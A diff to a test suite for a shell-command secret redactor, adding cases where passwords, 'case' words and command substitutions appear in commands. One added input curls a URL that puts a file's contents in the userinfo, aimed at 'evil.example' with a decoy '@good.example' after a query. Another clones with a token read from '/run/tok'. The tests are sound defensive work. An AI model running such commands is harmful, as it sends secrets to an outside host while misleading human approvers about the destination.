@@ -305,6 +305,10 @@ describe('a command substitution outside quotes', () => {
       ['echo $(case a in a) mysql -pS3cret;; esac)', 'echo $(case a in a) mysql -p[redacted];; esac)'],
       ['logger "$(case $E in prod) redis-cli -a S3cret info;; *) :;; esac)"', 'logger "$(case $E in prod) redis-cli -a [redacted] info;; *) :;; esac)"'],
       ['PGPASSWORD=$(echo staircase) psql', 'PGPASSWORD=[redacted] psql'],
+      // (only `case WORD in`: the word elsewhere leaves it a substitution, hidden whole)
+      ['PGPASSWORD=$(echo S3cret; case) psql', 'PGPASSWORD=[redacted] psql'],
+      ['export DB_PASSWORD=$(echo S3cret | tr lower case)', 'export DB_PASSWORD=[redacted]'],
+      ['mysql -p$(echo S3cret case) db', 'mysql -p[redacted] db'],
     ]);
     // Read within one another, quoted words and substitutions are read to twelve levels, each text once a line
     // (an ssh option's command line is read twice, and so was everything within it, twice again at each level).
@@ -341,6 +345,8 @@ describe('a command substitution outside quotes', () => {
       ['git clone https://u:$(cat /run/tok)@github.com/x/y', 'git clone https://u:[redacted]@github.com/x/y'],
       ['curl "https://u:ab$(echo S3cret)cd@h/x"', 'curl "https://u:[redacted]@h/x"'],
       ['curl https://u:p$(x)q@r@host/', 'curl https://u:[redacted]@host/'],
+      // (not past a query or fragment: the host an approver sees is the one the URL names)
+      ['curl https://u:$(cat t)@evil.example?x=a@good.example', 'curl https://u:[redacted]@evil.example?x=a@good.example'],
     ]);
     kept('curl https://h/$(date +%s)/x "https://h/a:$(id -u)/b"');
   });
